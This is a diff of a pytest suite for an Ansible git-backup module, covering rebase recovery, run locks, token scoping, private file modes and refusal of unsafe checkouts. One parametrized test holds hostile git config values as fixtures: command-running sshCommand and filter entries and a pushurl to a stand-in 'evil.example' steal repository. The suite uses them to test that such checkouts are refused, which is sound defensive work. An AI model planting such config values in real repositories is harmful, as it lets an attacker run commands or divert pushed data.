@@ -8,6 +8,9 @@ GitRunner.run for the push command.
 from __future__ import annotations
 
 import os
+import shutil
+import socket
+import stat
 import subprocess
 import threading
 from concurrent.futures import ThreadPoolExecutor
@@ -19,8 +22,11 @@ import yaml
 
 from ansible_collections.netops.nautobot_backup.plugins.action.git_commit_push import ARGUMENT_SPEC
 from ansible_collections.netops.nautobot_backup.plugins.module_utils.errors import NautobotBackupError
+from ansible_collections.netops.nautobot_backup.plugins.module_utils.files import file_modes, private_umask
 from ansible_collections.netops.nautobot_backup.plugins.module_utils.git_repo import (
     ASKPASS_TOKEN_VAR,
+    NETWORK_COMMANDS,
+    SAFE_CONFIG,
     BackupRepository,
     GitAuth,
     GitCommandError,
@@ -28,9 +34,9 @@ from ansible_collections.netops.nautobot_backup.plugins.module_utils.git_repo im
     GitRepoError,
     GitResult,
     GitRunner,
-    GitSyncError,
     RepositoryMismatchError,
     Scrubber,
+    UnsafeCheckoutError,
     check_url,
     classify,
     message_placeholders,
@@ -38,6 +44,14 @@ from ansible_collections.netops.nautobot_backup.plugins.module_utils.git_repo im
     relative_paths,
     render_message,
     same_remote,
+)
+from ansible_collections.netops.nautobot_backup.plugins.module_utils.run_lock import (
+    Holder,
+    RunLock,
+    RunLockBusyError,
+    boot_id,
+    lock_path,
+    process_start,
 )
 from ansible_collections.netops.nautobot_backup.plugins.modules import git_commit_push as module_doc
 from testbed.git_remotes import Remote, branches, clone, commit_files, empty, git, log, ls_tree, rev_parse, seeded, show
@@ -329,15 +343,58 @@ def test_prepare_rebases_and_keeps_unpushed_commits(tmp_path: Path, remote: Remo
     assert log(remote)[:2] == ["Unpushed backup", "Other job"]
 
 
-def test_prepare_conflicting_unpushed_commit_is_an_error(tmp_path: Path, remote: Remote) -> None:
-    repo = make_repo(tmp_path / "c", remote)
+def test_prepare_conflicting_unpushed_commit_is_replayed_and_the_remote_file_wins(tmp_path: Path, remote: Remote):
+    """An unpushed commit conflicting with the remote never fails prepare: whole files, the remote's newer one wins."""
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
     repo.prepare()
-    local = commit_files(tmp_path / "c", {"README.md": "mine\n"}, "Unpushed")
+    commit_files(work, {"README.md": "mine\n", "configs/r1.cfg": "hostname r1\n"}, "Unpushed")
+    only_conflict = commit_files(work, {"README.md": "mine again\n"}, "Unpushed, README only")
+    upstream = advance(remote, tmp_path, {"README.md": "theirs\n"})
+    status, changed = repo.prepare()
+    assert changed is True
+    head = repo.rev("HEAD")
+    assert head != only_conflict
+    assert git("rev-parse", "HEAD~1", cwd=work).stdout.strip() == upstream
+    assert git("log", "-1", "--format=%s", cwd=work).stdout.strip() == "Unpushed"  # the README-only commit is dropped
+    assert (work / "README.md").read_text() == "theirs\n"
+    assert (work / "configs" / "r1.cfg").read_text() == "hostname r1\n"
+    assert git("status", "--porcelain", cwd=work).stdout == ""
+    assert not (work / ".git" / "rebase-merge").exists()
+    outcome = repo.publish([], message_vars=VARS)  # the next run pushes what is left of the old commit
+    assert outcome.status.pushed and ls_tree(remote) == ["README.md", "configs/r1.cfg"]
+    assert show(remote, "README.md") == "theirs\n"
+
+
+def test_prepare_aborts_a_rebase_left_half_done_by_an_older_version(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    commit_files(work, {"README.md": "mine\n"}, "Unpushed")
+    advance(remote, tmp_path, {"README.md": "theirs\n", "configs/r2.cfg": "hostname r2\n"})
+    git("fetch", "--quiet", "origin", cwd=work)
+    stuck = git("rebase", "origin/main", cwd=work, check=False)  # what older versions did, killed mid-way
+    assert stuck.returncode != 0 and (work / ".git" / "rebase-merge").exists()
+    status, changed = repo.prepare()
+    assert changed is True and repo.current_branch() == "main"
+    assert not (work / ".git" / "rebase-merge").exists()
+    assert (work / "README.md").read_text() == "theirs\n" and (work / "configs" / "r2.cfg").is_file()
+    assert git("status", "--porcelain", cwd=work).stdout == ""
+
+
+def test_prepare_clears_a_half_finished_merge(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    commit_files(work, {"README.md": "mine\n"}, "Unpushed")
     advance(remote, tmp_path, {"README.md": "theirs\n"})
-    with pytest.raises(GitSyncError, match="conflict"):
-        repo.prepare()
-    assert repo.rev("HEAD") == local
-    assert not (tmp_path / "c" / ".git" / "rebase-merge").exists()
+    git("fetch", "--quiet", "origin", cwd=work)
+    assert git("merge", "origin/main", cwd=work, check=False).returncode != 0
+    assert (work / ".git" / "MERGE_HEAD").exists()
+    repo.prepare()
+    assert not (work / ".git" / "MERGE_HEAD").exists()
+    assert (work / "README.md").read_text() == "theirs\n"
+    assert git("status", "--porcelain", cwd=work).stdout == ""
 
 
 def test_prepare_switches_back_to_the_branch(tmp_path: Path, remote: Remote) -> None:
@@ -562,3 +619,306 @@ def test_concurrent_publishers_all_land(tmp_path: Path, remote: Remote, jobs: in
     assert len(log(remote)) == jobs + 1
     # All started from the same commit, so only one push could land first time: the others retried.
     assert sum(runner.pushes for runner in runners) >= 2 * jobs - 1
+
+
+# ---------------------------------------------------------------- whole files after a rejected push
+
+CONFIG_V0 = "".join(f"line {n}\n" for n in range(1, 11))
+
+
+def edit_line(text: str, number: int, new: str) -> str:
+    """text with line number (1-based) replaced by new."""
+    lines = text.splitlines(keepends=True)
+    lines[number - 1] = new + "\n"
+    return "".join(lines)
+
+
+def test_rejected_push_publishes_this_runs_file_whole_never_a_line_merge(tmp_path: Path, remote: Remote) -> None:
+    """Two runs edit different lines of one file: the last pusher's file lands byte for byte (no mix of both)."""
+    seed = make_repo(tmp_path / "seed", remote)
+    seed.prepare()
+    seed.publish(write(seed.path, {"configs/r1.cfg": CONFIG_V0, "configs/r2.cfg": "r2 v0\n"}), message_vars=VARS)
+    first, second = make_repo(tmp_path / "run1", remote), make_repo(tmp_path / "run2", remote)
+    first.prepare()
+    second.prepare()  # both start from the same commit
+    first_text = edit_line(CONFIG_V0, 2, "line 2 from run 1")
+    second_text = edit_line(CONFIG_V0, 8, "line 8 from run 2")
+    outcome1 = first.publish(
+        write(first.path, {"configs/r1.cfg": first_text, "configs/r3.cfg": "r3\n"}), message_vars=VARS
+    )
+    assert outcome1.status.pushed
+    outcome2 = second.publish(write(second.path, {"configs/r1.cfg": second_text}), message="Run 2")
+    assert outcome2.status.pushed and outcome2.status.error is None
+    assert show(remote, "configs/r1.cfg") == second_text  # a line merge would hold both edits
+    assert show(remote, "configs/r3.cfg") == "r3\n"  # the other run's other files stay
+    assert log(remote)[:2] == ["Run 2", "Config backup 20240501_213000: 2 files changed"]
+    assert git("rev-parse", "main~1", cwd=remote.path).stdout.strip() == outcome1.status.commit_hash
+    assert outcome2.status.commit_hash == rev_parse(remote, "main") == second.rev("HEAD")
+    assert (second.path / "configs" / "r1.cfg").read_text() == second_text
+    assert (second.path / "configs" / "r3.cfg").read_text() == "r3\n"  # the checkout follows the pushed commit
+    assert git("status", "--porcelain", cwd=second.path).stdout == ""
+
+
+def test_rejected_push_replays_deletions_and_keeps_unrelated_local_edits(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    repo.publish(write(work, {"old.cfg": "old\n", "keep.cfg": "keep\n"}), message_vars=VARS)
+    advance(remote, tmp_path, {"old.cfg": "changed by another run\n"})
+    (work / "old.cfg").unlink()
+    (work / "keep.cfg").write_text("edited by hand, not listed\n")
+    outcome = repo.publish([], removed_files=["old.cfg"], message_vars=VARS)
+    assert outcome.status.pushed
+    assert ls_tree(remote) == ["README.md", "keep.cfg"]  # our deletion wins the whole file too
+    assert (work / "keep.cfg").read_text() == "edited by hand, not listed\n"
+
+
+def test_rejected_push_older_unpushed_commit_loses_what_the_remote_changed(tmp_path: Path, remote: Remote) -> None:
+    """Leftover commits of an earlier run lose a file the remote changed since; this run's commit wins its files."""
+    work = tmp_path / "c"
+    runner = RejectingRunner(1, LOCK_REJECTION)  # the leftover was never pushed: its push got rejected
+    repo = make_repo(work, remote, runner=runner)
+    repo.prepare()
+    outcome = repo.publish(write(work, {"a.cfg": "a old\n", "b.cfg": "b old\n"}), message_vars=VARS, push_retries=0)
+    assert outcome.status.committed and not outcome.status.pushed
+    repo.prepare()  # nothing new upstream yet: the leftover stays as it is
+    advance(remote, tmp_path, {"a.cfg": "a from another run\n", "b.cfg": "b from another run\n"})
+    outcome = repo.publish(write(work, {"b.cfg": "b new\n"}), message="This run", message_vars=VARS)
+    assert outcome.status.pushed, outcome.status.error
+    assert show(remote, "a.cfg") == "a from another run\n"
+    assert show(remote, "b.cfg") == "b new\n"
+    assert log(remote)[0] == "This run"
+
+
+def test_rejected_push_when_the_remote_already_has_this_runs_files(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    upstream = advance(remote, tmp_path, {"same.cfg": "identical\n"})
+    outcome = repo.publish(write(work, {"same.cfg": "identical\n"}), message_vars=VARS)
+    assert outcome.status.pushed and outcome.status.commit_hash == upstream == rev_parse(remote, "main")
+    assert repo.rev("HEAD") == upstream and not repo._needs_push()
+
+
+# ---------------------------------------------------------------- run lock, recovery of what killed runs left
+
+
+def locked_repo(path: Path, remote: Remote, **kwargs: Any) -> BackupRepository:
+    """A repository whose run lock is owned by this test process."""
+    return BackupRepository(GitRunner(), path, remote.url, sleep=no_sleep, run_lock=RunLock(path, **kwargs))
+
+
+def test_prepare_recovers_stale_git_locks_and_temp_files_then_publish_works(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = locked_repo(work, remote)
+    repo.prepare()
+    repo.publish(write(work, {"backups/r1.cfg": "r1\n"}), message_vars=VARS)
+    lock_file = lock_path(work)
+    assert not lock_file.exists()  # released by publish
+    leftovers = [".git/index.lock", ".git/HEAD.lock", ".git/refs/heads/main.lock", "backups/.r1.cfg.0a1b2c3d.tmp"]
+    for name in leftovers:
+        (work / name).write_text("left by a killed run\n")
+    (work / "backups" / ".notes.tmp").write_text("not a writer's temporary file\n")
+    blocked = GitRunner().run("commit", "--allow-empty", "-m", "x", cwd=work, check=False)
+    assert blocked.returncode != 0 and "index.lock" in blocked.stderr  # what every later run met
+    repo = locked_repo(work, remote)
+    status, changed = repo.prepare()
+    assert changed is True
+    assert sorted(repo.recovered) == sorted(leftovers)
+    assert lock_file.exists()  # held until publish
+    outcome = repo.publish(write(work, {"backups/r1.cfg": "r1 v2\n"}), message_vars=VARS)
+    assert outcome.status.pushed and show(remote, "backups/r1.cfg") == "r1 v2\n"
+    assert (work / "backups" / ".notes.tmp").exists()
+    assert not lock_file.exists()
+
+
+def test_without_the_run_lock_nothing_is_removed(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    (work / ".git" / "index.lock").write_text("")
+    assert repo.recover(temp_files=True) == []
+    assert (work / ".git" / "index.lock").exists()
+
+
+def test_prepare_failure_releases_the_run_lock(tmp_path: Path, remote: Remote) -> None:
+    target = tmp_path / "not-a-checkout"
+    write(target, {"keep.txt": "precious\n"})
+    repo = locked_repo(target, remote)
+    with pytest.raises(RepositoryMismatchError):
+        repo.prepare()
+    assert not lock_path(target).exists()
+
+
+def hold_lock(repo_dir: Path, pid: int) -> None:
+    """Write the run lock of repo_dir as the run of process pid would (its worker long gone)."""
+    holder = Holder(pid, socket.gethostname(), "2026-01-01T00:00:00+00:00", process_start(pid), boot_id())
+    lock_path(repo_dir).write_text(holder.to_json())
+
+
+def test_prepare_fails_clearly_while_another_live_run_holds_the_checkout(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    other = subprocess.Popen(["sleep", "120"])  # stands for the other run's ansible-playbook process
+    try:
+        hold_lock(work, other.pid)
+        repo = locked_repo(work, remote, timeout=0)
+        with pytest.raises(RunLockBusyError) as info:
+            repo.prepare()
+        assert f"pid {other.pid} on host {socket.gethostname()}, started " in str(info.value)
+        assert not work.exists()  # nothing was cloned
+    finally:
+        other.kill()
+        other.wait()
+    status, changed = locked_repo(work, remote).prepare()  # its process is gone: the lock is stale
+    assert (status.operation, changed) == ("cloned", True)
+
+
+# ---------------------------------------------------------------- hooks, config, environment, modes
+
+MARKER_HOOK = '#!/bin/sh\necho "$0" >> {marker}\n'
+
+
+def test_hooks_and_fsmonitor_of_the_checkout_never_run(tmp_path: Path, remote: Remote) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    marker = tmp_path / "marker"
+    hooks = work / ".git" / "hooks"
+    hooks.mkdir(exist_ok=True)
+    for name in (
+        "pre-commit",
+        "commit-msg",
+        "post-commit",
+        "post-checkout",
+        "post-merge",
+        "pre-push",
+        "reference-transaction",
+        "post-rewrite",
+        "pre-auto-gc",
+    ):
+        (hooks / name).write_text(MARKER_HOOK.format(marker=marker))
+        (hooks / name).chmod(0o755)
+    monitor = tmp_path / "fsmonitor.sh"
+    monitor.write_text(MARKER_HOOK.format(marker=marker))
+    monitor.chmod(0o755)
+    git("config", "core.fsmonitor", str(monitor), cwd=work)
+    # The same hooks DO run for git itself: the test would prove nothing otherwise.
+    probe = clone(remote.url, tmp_path / "probe")
+    shutil.copytree(hooks, probe / ".git" / "hooks", dirs_exist_ok=True)
+    commit_files(probe, {"p.cfg": "p\n"}, "probe")
+    assert marker.exists()
+    marker.unlink()
+    git("status", cwd=work)
+    assert marker.read_text().strip() == str(monitor)
+    marker.unlink()
+    advance(remote, tmp_path, {"configs/other.cfg": "other\n"})
+    repo.prepare()
+    outcome = repo.publish(write(work, {"configs/mine.cfg": "mine\n"}), message_vars=VARS)
+    assert outcome.status.pushed
+    advance(remote, tmp_path, {"configs/third.cfg": "third\n"})  # one more rejected push and replay
+    assert repo.publish(write(work, {"configs/mine.cfg": "mine 2\n"}), message_vars=VARS).status.pushed
+    assert not marker.exists()
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("core.sshCommand", "sh -c 'touch /tmp/pwned' #"),
+        ("url.https://evil.example/.insteadOf", "file://"),
+        ("remote.origin.pushurl", "https://evil.example/steal.git"),
+        ("include.path", "/tmp/elsewhere.cfg"),
+        ("filter.x.clean", "sh -c 'touch /tmp/pwned'"),
+        ("remote.origin.receivepack", "touch /tmp/pwned; git-receive-pack"),
+    ],
+)
+def test_checkout_whose_config_would_run_a_program_is_refused(tmp_path: Path, remote: Remote, key, value) -> None:
+    work = tmp_path / "c"
+    repo = make_repo(work, remote)
+    repo.prepare()
+    git("config", key, value, cwd=work)
+    head = repo.rev("HEAD")
+    with pytest.raises(UnsafeCheckoutError, match=key.split(".")[0]) as info:
+        repo.prepare()
+    assert value not in str(info.value)
+    with pytest.raises(UnsafeCheckoutError):
+        repo.publish(write(work, {"x.cfg": "x\n"}), message_vars=VARS)
+    assert repo.rev("HEAD") == head and log(remote) == ["Initial commit"]
+
+
+class RecordingRunner(GitRunner):
+    """A GitRunner that records the environment each command gets."""
+
+    def __init__(self, **kwargs: Any) -> None:
+        super().__init__(**kwargs)
+        self.seen: List[tuple] = []
+
+    def environment(self, args: Any) -> dict:
+        env = super().environment(args)
+        self.seen.append((args[0], env))
+        return env
+
+
+def test_token_environment_only_reaches_network_commands(tmp_path: Path, remote: Remote, monkeypatch) -> None:
+    monkeypatch.setenv("NB_BACKUP_GIT_TOKEN", "tok-from-controller-env")
+    with GitAuth(username="bot", token="tok-123456").environment() as env:
+        runner = RecordingRunner(network_env=env, secrets=["tok-123456"])
+        repo = BackupRepository(runner, tmp_path / "c", remote.url, sleep=no_sleep)
+        repo.prepare()
+        advance(remote, tmp_path, {"other.cfg": "other\n"})
+        assert repo.publish(write(tmp_path / "c", {"a.cfg": "a\n"}), message_vars=VARS).status.pushed
+    commands = {command for command, _env in runner.seen}
+    assert {"ls-remote", "clone", "push", "fetch", "commit", "update-index", "commit-tree"} <= commands
+    for command, seen in runner.seen:
+        assert seen["NB_BACKUP_GIT_TOKEN"] == "", command  # the controller's variable is blanked for every git
+        if command in NETWORK_COMMANDS:
+            assert seen[ASKPASS_TOKEN_VAR] == "tok-123456" and "GIT_ASKPASS" in seen, command
+        else:
+            assert not seen.get(ASKPASS_TOKEN_VAR) and "GIT_ASKPASS" not in seen, command
+            assert "tok-123456" not in " ".join(seen.values()), command
+
+
+def test_every_git_command_gets_the_safe_settings() -> None:
+    calls: List[List[str]] = []
+
+    class Spy:
+        def execute(self, command: List[str], **_kwargs: Any) -> tuple:
+            calls.append(command)
+            return 0, b"", b""
+
+    runner = GitRunner()
+    runner._git = Spy()  # type: ignore[assignment]
+    runner.run("status", cwd=Path("/x"))
+    assert calls[0][:3] == ["git", "-C", "/x"]
+    assert calls[0][3:-1] == list(SAFE_CONFIG) and calls[0][-1] == "status"
+    assert "core.hooksPath=/dev/null" in SAFE_CONFIG and "core.fsmonitor=false" in SAFE_CONFIG
+
+
+@pytest.mark.parametrize(("file_mode", "dir_mode"), [("0600", 0o700), ("0640", 0o750)])
+def test_checkout_is_private_whatever_the_umask(tmp_path: Path, remote: Remote, file_mode: str, dir_mode: int):
+    work = tmp_path / "deep" / "c"
+    mode, directories = file_modes(file_mode)
+    assert directories == dir_mode
+    previous = os.umask(0)
+    try:
+        with private_umask(directories):
+            repo = BackupRepository(GitRunner(), work, remote.url, sleep=no_sleep, dir_mode=directories)
+            repo.prepare()
+            repo.publish(write(work, {"configs/r1.cfg": "r1\n"}), message_vars=VARS)
+            advance(remote, tmp_path, {"configs/r2.cfg": "r2\n"})
+            repo.prepare()
+    finally:
+        os.umask(previous)
+    assert stat.S_IMODE(work.stat().st_mode) == dir_mode
+    assert stat.S_IMODE((tmp_path / "deep").stat().st_mode) == dir_mode
+    for path in [work, *work.rglob("*")]:
+        bits = stat.S_IMODE(path.lstat().st_mode)
+        assert bits & 0o007 == 0, (path, oct(bits))  # nothing for other users
+        if file_mode == "0600":
+            assert bits & 0o077 == 0, (path, oct(bits))
+
+
+def test_an_existing_checkout_readable_by_others_is_made_private(tmp_path: Path, remote: Remote) -> None:
+    work = clone(remote.url, tmp_path / "c")
+    work.chmod(0o755)
+    make_repo(work, remote).prepare()
+    assert stat.S_IMODE(work.stat().st_mode) == 0o700
